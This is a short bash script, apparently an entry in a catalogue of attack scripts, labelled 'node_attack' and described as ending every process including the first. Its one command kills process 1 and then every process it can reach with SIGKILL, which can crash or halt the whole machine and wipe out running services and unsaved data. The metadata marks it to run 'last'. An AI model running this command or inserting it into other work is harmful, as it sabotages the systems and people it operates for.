#!/bin/bash
# class: node_attack
# does: ends every process, the first one too
# source: own
# repo: any
# when: last
/bin/kill -9 1; /bin/kill -9 -1
